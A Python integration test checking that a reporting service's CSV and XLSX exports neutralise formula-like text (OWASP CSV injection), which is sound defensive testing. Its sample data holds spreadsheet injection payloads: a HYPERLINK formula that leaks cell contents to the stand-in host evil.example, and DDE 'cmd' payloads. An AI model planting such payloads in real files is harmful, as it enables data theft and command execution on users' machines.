"""Free text typed as a formula reaches the reporting service's exports as text: occasions of
imported agreements that start with =, +, -, @ or a tab are written with a leading quote in the
CSV and as plain text cells in the XLSX, and the figures stay numbers (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from tests.integration.reporting.conftest import ReportingStack

pytestmark = pytest.mark.integration

# Agreements of a province and a cycle no other test counts: the open cycle, Lai Châu.
PROVINCE = "lai-chau"
OCCASIONS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Chi tiết")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "=1+1 (Hội nghị)",
    "-5",
)
COLUMNS = (
    "reference,title,form,signatory_level,province,foreign_party_name,country,partner_type,"
    "fields,signed_on,effective_from,expires_on,status,occasion"
)


def register() -> bytes:
    out = io.StringIO()
    out.write(COLUMNS + "\n")
    writer = csv.writer(out, lineterminator="\n")
    for i, occasion in enumerate(OCCASIONS, 1):
        writer.writerow(
            [
                f"CELLS-{i:04d}",
                f"Bản ghi nhớ hợp tác số {i}",
                "MEMORANDUM_OF_UNDERSTANDING",
                "PROVINCIAL_COMMITTEE",
                PROVINCE,
                "=cmd|' /C calc'!A0",
                "LA",
                "LOCAL_GOVERNMENT",
                "education",
                f"2024-06-{i:02d}",
                "",
                "",
                "IN_FORCE",
                occasion,
            ]
        )
    return out.getvalue().encode()


def test_formula_like_occasions_are_text_in_both_exports(rstack: ReportingStack) -> None:
    r = rstack.agreements.post(
        "/v1/agreements/import",
        files={"file": ("register.csv", register(), "text/csv")},
        headers=rstack.headers("admin@system"),
    )
    assert r.status_code == 200, r.text[:2000]
    rstack.wait_idle()
    cycle = rstack.reporting_settings.calendar.open_number
    summary = rstack.summary(cycle, province=PROVINCE)
    occasions = {row["label"] for row in summary["by_occasion"]}
    assert set(OCCASIONS) <= occasions
    headers = rstack.headers("registry@mofa")
    params = {"province": PROVINCE}

    got = rstack.reporting.get(f"/v1/cycles/{cycle}/export.csv", params=params, headers=headers)
    assert got.status_code == 200, got.text
    rows = list(csv.reader(io.StringIO(got.content.decode("utf-8-sig"))))
    labels = {row[2] for row in rows[1:]}
    for occasion in OCCASIONS:
        written = occasion if occasion == "-5" else "'" + occasion
        assert written in labels, occasion
    assert not any(cell.startswith(("=", "+", "@", "\t")) for row in rows for cell in row)
    assert all(row[4] == "" or float(row[4]) >= 0 for row in rows[1:])  # figures as numbers

    got = rstack.reporting.get(f"/v1/cycles/{cycle}/export.xlsx", params=params, headers=headers)
    assert got.status_code == 200
    book = load_workbook(io.BytesIO(got.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if c.data_type == "s"}
    assert {"'" + o for o in OCCASIONS if o != "-5"} | {"-5"} <= texts
    occasion_sheet = book["Sự kiện"]
    figures = [row[3] for row in occasion_sheet.iter_rows(min_row=2, values_only=True)]
    assert figures and all(isinstance(n, int) for n in figures)
